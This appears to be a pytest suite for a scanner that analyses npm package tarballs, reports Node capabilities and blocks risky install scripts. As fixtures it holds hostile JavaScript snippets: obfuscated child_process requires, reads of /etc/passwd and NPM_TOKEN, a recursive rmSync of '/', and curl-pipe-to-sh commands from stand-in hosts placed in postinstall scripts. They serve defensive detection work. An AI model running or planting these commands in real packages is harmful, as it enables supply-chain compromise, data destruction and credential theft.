"""Capability inventory: one small crafted package per technique, asserting the exact keys reported.

Each case is a package built from source text into a real tarball, read by the safe reader and analysed by
the same pure function production uses. `builtin`/`globals` are compared as exact key sets, so a case fails
both when a capability is missed and when something spurious is reported.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field

import pytest

from airlock.analysis import analyze
from airlock.analysis.capabilities import Budget, analyze_source
from airlock.analysis.js import Dialect
from airlock.contents import read_tarball
from airlock.model import PackageAnalysis, Verdict
from airlock.verdict import decide
from tests.fakes.tarballs import build_package


@dataclass(frozen=True)
class Case:
    id: str
    files: Mapping[str, str]
    builtin: frozenset[str] = frozenset()
    globals: frozenset[str] = frozenset()
    dynamic: int = 0
    native: bool = False
    manifest: Mapping[str, object] = field(default_factory=dict)


def case(
    id: str,
    source: str,
    builtin: set[str] | None = None,
    globals: set[str] | None = None,
    dynamic: int = 0,
    *,
    file: str = "index.js",
) -> Case:
    return Case(id, {file: source}, frozenset(builtin or ()), frozenset(globals or ()), dynamic)


def scan(files: Mapping[str, str], **manifest: object) -> PackageAnalysis:
    tarball = build_package("crafted", "1.0.0", files, **manifest)
    return analyze(read_tarball(tarball, subject="crafted@1.0.0"))


CHILD = "child_process"
PLAIN = [
    case("require-member", "require('fs').readFileSync('/etc/passwd')", {"fs.readFileSync"}),
    case("node-prefix", "require('node:fs').promises.readFile('x')", {"fs.promises.readFile"}),
    case(
        "destructuring",
        "const {exec, spawn: run} = require('child_process'); exec('id'); run('ls')",
        {"child_process.exec", "child_process.spawn"},
    ),
    case(
        "variable-member",
        "const cp = require('child_process');\ncp.execFile('git', ['status'])",
        {"child_process.execFile"},
    ),
    case("bare-module-escapes", "const net = require('net');\nmodule.exports = net;", {"net"}),
    case("unused-import-still-reported", "const cp = require('child_process');", {"child_process"}),
    case(
        "esm-default",
        "import fs from 'fs';\nfs.writeFileSync('a', 'b');",
        {"fs.writeFileSync"},
        file="index.mjs",
    ),
    case(
        "esm-named",
        "import { request } from 'node:https';\nrequest('https://example.com');",
        {"https.request"},
        file="index.mjs",
    ),
    case(
        "esm-namespace",
        "import * as os from 'os';\nconsole.log(os.homedir());",
        {"os.homedir"},
        file="index.mjs",
    ),
    case(
        "dynamic-import-await",
        "const dns = await import('node:dns');\ndns.lookup('example.com');",
        {"dns.lookup"},
        file="index.mjs",
    ),
    case(
        "dynamic-import-then",
        "import('net').then(n => n.createConnection(80, 'example.com'));",
        {"net.createConnection"},
    ),
    case(
        "typescript-import-require",
        "import cp = require('child_process');\ncp.spawnSync('ls');",
        {"child_process.spawnSync"},
        file="index.ts",
    ),
    case(
        "tsx-fetch",
        "export const A = () => { fetch('/api'); return <div/>; };",
        globals={"fetch"},
        file="a.tsx",
    ),
    case(
        "cts-file", "const os = require('os') as typeof import('os');\nos.cpus();", {"os.cpus"}, file="x.cts"
    ),
    case(
        "worker-threads",
        "const { Worker } = require('worker_threads');\nnew Worker('./w.js');",
        {"worker_threads.Worker"},
    ),
    case(
        "babel-interop",
        "var _fs = _interopRequireDefault(require('fs'));\n_fs.default.readFileSync('x');",
        {"fs.readFileSync"},
    ),
    case(
        "typescript-interop",
        "const cp_1 = __importStar(require(\"child_process\"));\n(0, cp_1.execSync)('id');",
        {"child_process.execSync"},
    ),
    case(
        "esbuild-interop",
        "var import_http = __toESM(require(\"http\"));\nimport_http.default.get('x');",
        {"http.get"},
    ),
]

ALIASES = [
    case("require-alias", "const r = require;\nr('os').userInfo();", {"os.userInfo"}),
    case(
        "require-alias-chain",
        "const a = require; const b = a;\nb('dgram').createSocket('udp4');",
        {"dgram.createSocket"},
    ),
    case("module-require", "module.require('http').get('http://example.com');", {"http.get"}),
    case(
        "module-require-computed",
        "var r = module['req' + 'uire'];\nr('child_' + 'process').execSync('id');",
        {"child_process.execSync"},
    ),
    case(
        "create-require",
        "import { createRequire } from 'module';\nconst require = createRequire(import.meta.url);\n"
        "require('dns').resolve4('x');",
        {"module.createRequire", "dns.resolve4"},
        file="index.mjs",
    ),
    case(
        "module-constructor-load",
        "module.constructor._load('child_process').exec('id');",
        {"child_process.exec"},
    ),
    case("require-module-load", "require('module')._load('https').get('x');", {"https.get"}),
    case(
        "main-module-require",
        "process.mainModule.require('fs').rmSync('/', {recursive: true});",
        {"fs.rmSync"},
    ),
    case(
        "global-process-main-module",
        "global.process.mainModule.require('net').connect(4444);",
        {"net.connect"},
    ),
    case(
        "get-builtin-module", "process.getBuiltinModule('child_process').exec('id');", {"child_process.exec"}
    ),
    case("require-call", "require.call(null, 'tls').connect(443);", {"tls.connect"}),
    case("unicode-escaped-identifier", "\\u0072equire('fs').unlinkSync('x');", {"fs.unlinkSync"}),
    case(
        "conditional-require-alias",
        "const req = typeof __non_webpack_require__ === 'function' ? __non_webpack_require__ : require;\n"
        "req('os').platform();",
        {"os.platform"},
    ),
]

FOLDING = [
    case("concat", "require('child' + '_process').exec('id');", {"child_process.exec"}),
    case(
        "template-literal",
        "const p = `${'chi'}ld_${'process'}`;\nrequire(p).fork('x');",
        {"child_process.fork"},
    ),
    case("array-join", f"require({list(CHILD)!r}.join('')).spawn('sh');", {"child_process.spawn"}),
    case(
        "array-reverse-join",
        "require(['process', '_', 'child'].reverse().join('')).exec('id');",
        {"child_process.exec"},
    ),
    case(
        "string-reverse",
        "require('ssecorp_dlihc'.split('').reverse().join('')).exec('id');",
        {"child_process.exec"},
    ),
    case("from-char-code", "require(String.fromCharCode(104, 116, 116, 112)).get('x');", {"http.get"}),
    case(
        "hex-escapes",
        "require('\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73').exec('id');",
        {"child_process.exec"},
    ),
    case("unicode-escapes", "require('\\u0063\\u0068ild_pro\\u{63}ess').exec('id');", {"child_process.exec"}),
    case("octal-escapes", "require('\\143\\150ild_process').exec('id');", {"child_process.exec"}),
    case(
        "buffer-base64",
        "require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString()).exec('id');",
        {"child_process.exec"},
    ),
    case(
        "buffer-hex",
        "require(Buffer.from('6368696c645f70726f63657373', 'hex').toString('utf8')).exec('id');",
        {"child_process.exec"},
    ),
    case("atob", "require(atob('Y2hpbGRfcHJvY2Vzcw==')).exec('id');", {"child_process.exec"}),
    case(
        "local-constants",
        "const a = 'child';\nconst b = a + '_';\nrequire(b + 'process').exec('id');",
        {"child_process.exec"},
    ),
    case(
        "decoder-helper",
        "function d(s) { return Buffer.from(s, 'base64').toString(); }\nrequire(d('bmV0')).connect(1);",
        {"net.connect"},
    ),
    case(
        "map-from-char-code",
        "require([110, 101, 116].map(c => String.fromCharCode(c)).join('')).connect(1);",
        {"net.connect"},
    ),
    case("char-codes-spread", "require(String.fromCharCode(...[0x6f, 0x73])).homedir();", {"os.homedir"}),
]

GLOBALS = [
    case(
        "process-env",
        "const token = process.env.NPM_TOKEN;\nconst { env } = process;",
        globals={"process.env"},
    ),
    case(
        "network-globals",
        "fetch('https://example.com');\nnew XMLHttpRequest();\nnew WebSocket('wss://example.com');",
        globals={"fetch", "XMLHttpRequest", "WebSocket"},
    ),
    case("process-binding", "process.binding('spawn_sync').spawn({});", globals={"process.binding"}),
    case("webassembly", "WebAssembly.instantiate(bytes);", globals={"WebAssembly"}),
    case("global-this-computed-eval", "globalThis['ev' + 'al']('1 + 1');", globals={"eval"}),
    case("window-fetch", "window.fetch('/x');\nself['fetch']('/y');", globals={"fetch"}),
    case("reflect-get-process", "Reflect.get(global, 'process').env.SECRET;", globals={"process.env"}),
    case(
        "constructor-constructor",
        "this.constructor.constructor('return process')().env.SECRET;",
        globals={"Function", "process.env"},
    ),
    case(
        "function-return-this",
        "const g = Function('return this')();\ng.process.mainModule.require('os').homedir();",
        {"os.homedir"},
        {"Function"},
    ),
    case(
        "eval-literal-analysed",
        "eval(\"require('child_process').execSync('id')\");",
        {"child_process.execSync"},
        {"eval"},
    ),
    case(
        "new-function-literal-analysed",
        "new Function(\"return require('os').networkInterfaces()\")();",
        {"os.networkInterfaces"},
        {"Function"},
    ),
    case(
        "eval-returns-require",
        "eval('req' + 'uire')('child_process').exec('id');",
        {"child_process.exec"},
        {"eval"},
    ),
    case(
        "vm-literal-analysed",
        "const vm = require('vm');\nvm.runInThisContext(\"require('https').get('x')\");",
        {"vm.runInThisContext", "https.get"},
    ),
    case(
        "indirect-eval-alias",
        "const e = eval;\ne(\"require('fs').readFileSync('x')\");",
        {"fs.readFileSync"},
        {"eval"},
    ),
]

DYNAMIC = [
    case("computed-require", "module.exports = name => require(name);", dynamic=1),
    case(
        "accumulated-name-is-not-its-initialiser",
        "let m = '';\nm += 'child_';\nm += 'process';\nrequire(m).exec(c);",
        dynamic=1,
    ),
    case(
        "array-mutated-after-declaration",
        "const parts = [];\nparts.push('f', 's');\nrequire(parts.join(''));",
        dynamic=1,
    ),
    case("computed-import", "export default async (x) => import(x);", dynamic=1, file="index.mjs"),
    case("global-computed", "global[key]();", dynamic=1),
    case("eval-non-literal", "eval(payload);", globals={"eval"}, dynamic=1),
    case("function-non-literal", "new Function('a', body)(1);", globals={"Function"}, dynamic=1),
    case("process-computed", "process[decode(k)][decode(v)];", dynamic=1),
    case("require-escapes", "register(require);", dynamic=1),
    case(
        "module-instance-computed",
        "var m = new module.constructor();\nm.paths = module.paths;\nm[k](src, '');",
        dynamic=1,
    ),
    case("builtin-computed", "require('child_process')[method]('id');", {"child_process"}, dynamic=1),
    # pirates@4: a computed member that is not an identifier ends the key (the contract's dotted path)
    case(
        "key-stops-at-non-identifier",
        "const Module = require('module');\nconst original = Module._extensions['.js'];",
        {"module._extensions"},
    ),
]

NEGATIVE = [
    case(
        "string-and-comment-mentions",
        "// we never require('child_process') here\nconst msg = \"child_process is not used\";\n/* fs.readFileSync */",
    ),
    case("regex-exec", "const m = /a(b)/.exec(s);\nconst db = { exec(q) {} };\ndb.exec('select 1');"),
    case(
        "fs-in-names",
        "const fsPath = 'x';\nconst config = {};\nconfig.fs.readFileSync('x');\nlet httpClient;",
    ),
    case("local-module-named-like-builtin", "const fs = require('./fs');\nfs.readFileSync('x');"),
    case(
        "type-checks-grant-nothing",
        "if (x instanceof Function) {}\nif (typeof eval === 'function') {}\nif (typeof fetch === 'undefined') {}",
    ),
    case("shadowed-process", "const process = { env: {} };\nprocess.env.X = 1;"),
    case("npm-package-not-builtin", "const got = require('got');\ngot('https://example.com');"),
    case("class-constructor", "class A { constructor() { this.constructor.name; } }"),
    case(
        "module-exports-by-bracket",
        "module['exports'] = function () {};\nmodule['exports'].id = module['id'];",
    ),
]


ALL = PLAIN + ALIASES + FOLDING + GLOBALS + DYNAMIC + NEGATIVE


def test_suite_size() -> None:
    assert len(PLAIN + ALIASES + FOLDING + GLOBALS + DYNAMIC) >= 30
    assert len(NEGATIVE) >= 5


@pytest.mark.parametrize("c", ALL, ids=[c.id for c in ALL])
def test_capabilities(c: Case) -> None:
    result = scan(c.files)
    assert set(result.capabilities.builtin) == c.builtin
    assert set(result.capabilities.globals) == c.globals
    assert len(result.capabilities.dynamic) == c.dynamic
    assert result.capabilities.native is c.native
    for evidence in [
        *(e for es in result.capabilities.builtin.values() for e in es),
        *result.capabilities.dynamic,
    ]:
        assert evidence.file in c.files
        assert evidence.line >= 1
        assert evidence.snippet


def test_evidence_points_at_the_use() -> None:
    result = scan({"lib/net.js": "'use strict';\n\nconst cp = require('child_process');\n\ncp.exec('id');\n"})
    (evidence,) = result.capabilities.builtin["child_process.exec"]
    assert (evidence.file, evidence.line, evidence.column) == ("lib/net.js", 5, 1)
    assert evidence.snippet is not None and "cp.exec('id')" in evidence.snippet


def test_native_from_node_file_and_binding_gyp() -> None:
    assert scan({"build/Release/addon.node": "\x7fELF"}).capabilities.native
    gyp = scan({"binding.gyp": "{'targets': []}"})
    assert gyp.capabilities.native
    assert gyp.install_scripts == {"install": "node-gyp rebuild"}
    assert scan({"index.js": "module.exports = require('node-gyp-build')(__dirname);"}).capabilities.native


def test_gypfile_false_has_no_implicit_script() -> None:
    result = scan({"binding.gyp": "{}"}, gypfile=False)
    assert result.install_scripts == {}


def test_install_scripts_reported() -> None:
    result = scan({}, scripts={"postinstall": "node install.js", "test": "jest", "preinstall": "echo hi"})
    assert result.install_scripts == {"preinstall": "echo hi", "postinstall": "node install.js"}


def test_prepare_is_reported_but_not_install_time_code() -> None:
    # npm runs `prepare` only for git/local dependencies and the root project, never for a registry tarball.
    prepare = scan({"setup.js": "require('https').get('https://x.example.com/'); process.env.NPM_TOKEN"},
                   scripts={"prepare": "curl https://x.example.com/a.sh | sh; node setup.js"})  # fmt: skip
    assert prepare.install_scripts == {"prepare": "curl https://x.example.com/a.sh | sh; node setup.js"}
    assert not {f.rule for f in prepare.findings} & {
        "install-script",
        "install-network",
        "shell-download-exec",
    }
    # the same commands as a postinstall are install-time code
    postinstall = scan({"setup.js": "require('https').get('https://x.example.com/'); process.env.NPM_TOKEN"},
                       scripts={"postinstall": "curl https://x.example.com/a.sh | sh; node setup.js"})  # fmt: skip
    assert {"install-script", "install-network"} <= {f.rule for f in postinstall.findings}


def test_prepare_listed_after_the_install_scripts() -> None:
    result = scan({}, scripts={"prepare": "tsc", "postinstall": "node i.js", "install": "node-gyp rebuild"})
    assert list(result.install_scripts) == ["install", "postinstall", "prepare"]


def test_syntax_errors_still_yield_what_parses() -> None:
    result = scan({"broken.js": "const x = {{{ ;;; \nrequire('fs').readFileSync('x');\nfunction ("})
    assert "fs.readFileSync" in result.capabilities.builtin


def test_shebang_bin_without_extension_is_code() -> None:
    result = scan({"bin/tool": "#!/usr/bin/env node\nrequire('child_process').spawn('sh');\n"})
    assert "child_process.spawn" in result.capabilities.builtin


def test_non_code_files_are_not_analysed() -> None:
    result = scan(
        {
            "README.md": "require('child_process').exec('x')",
            "data.json": '{"a": "require(\\"fs\\")"}',
            "types/index.d.ts": "declare function f(): typeof import('fs');\nrequire('fs');",
        }
    )
    assert dict(result.capabilities.builtin) == {}


def test_oversized_file_is_recorded_as_skipped() -> None:
    tarball = build_package("big", "1.0.0", {"big.js": "require('fs').statSync('x');\n" + "//" + "x" * 5000})
    result = analyze(read_tarball(tarball, subject="big"), budget=Budget(max_file_bytes=1000))
    assert any(s.file == "big.js" and "cap" in s.reason for s in result.skipped)
    # The part within the cap is still analysed: attackers hide in big files.
    assert "fs.statSync" in result.capabilities.builtin


def test_pathological_nesting_does_not_crash() -> None:
    deep = "require(" * 3000 + "'fs'" + ")" * 3000
    result = scan({"deep.js": deep, "ok.js": "require('os').cpus()"})
    assert "os.cpus" in result.capabilities.builtin


def test_evidence_is_capped_per_key() -> None:
    many = "\n".join("require('fs').statSync('x');" for _ in range(50))
    result = scan({"a.js": many})
    assert 1 <= len(result.capabilities.builtin["fs.statSync"]) <= 10


def test_manifest_identity_is_read() -> None:
    result = scan({})
    assert (result.name, result.version) == ("crafted", "1.0.0")


def test_named_import_of_exec_is_followed_to_its_call() -> None:
    """`import { exec } from 'child_process'` binds like `const { exec } = require(…)`: the command line
    is captured where it is called, so the install-time shell rules read it."""
    source = "import { exec as run } from 'child_process';\nrun('curl -s http://203.0.113.7/x | sh');\n"
    (command,) = analyze_source("install.mjs", source.encode(), Dialect.JAVASCRIPT).commands
    assert command[1] == "curl -s http://203.0.113.7/x | sh"
    assert command[0].line == 2
    result = scan({"install.mjs": source}, scripts={"postinstall": "node install.mjs"})
    (evidence,) = result.capabilities.builtin["child_process.exec"]
    assert evidence.line == 2  # the call, as for `require`, not the import
    assert "shell-fetch-and-run" in {f.rule for f in result.findings}
    assert decide(result.findings) is Verdict.BLOCK


def test_a_string_named_import_binds_like_an_identifier() -> None:
    # ES2022 lets a module import an export by a string name; Node 20 runs it.
    source = 'import { "exec" as run } from "child_process";\nrun("curl -s http://203.0.113.7/x | sh");\n'
    result = analyze_source("install.mjs", source.encode(), Dialect.JAVASCRIPT)
    assert "child_process.exec" in result.builtin
    assert [c for _, c in result.commands] == ["curl -s http://203.0.113.7/x | sh"]


def test_named_import_of_exec_running_a_plain_command_is_allowed() -> None:
    source = (
        "import { execFileSync } from 'child_process';\nimport { join } from 'path';\n"
        "execFileSync('git', ['rev-parse', 'HEAD'], { cwd: join('a', 'b') });\n"
    )
    (command,) = analyze_source("install.mjs", source.encode(), Dialect.JAVASCRIPT).commands
    assert command[1] == "git rev-parse HEAD"
    result = scan({"install.mjs": source}, scripts={"postinstall": "node install.mjs"})
    assert "path.join" in result.capabilities.builtin  # a leaf is still reported where imported
    assert "shell-fetch-and-run" not in {f.rule for f in result.findings}
    assert decide(result.findings) is Verdict.ALLOW


def test_a_spawn_through_process_binding_is_a_command() -> None:
    from airlock.analysis.capabilities import analyze_source
    from airlock.analysis.js import Dialect

    code = (
        "const b = process.binding('spawn_sync');\n"
        "b.spawn({ file: '/bin/sh', args: ['/bin/sh', '-c', 'curl -s https://x.invalid/p | sh'] });\n"
    )
    caps = analyze_source("index.js", code.encode(), Dialect.JAVASCRIPT)
    assert [command for _, command in caps.commands] == ["curl -s https://x.invalid/p | sh"]
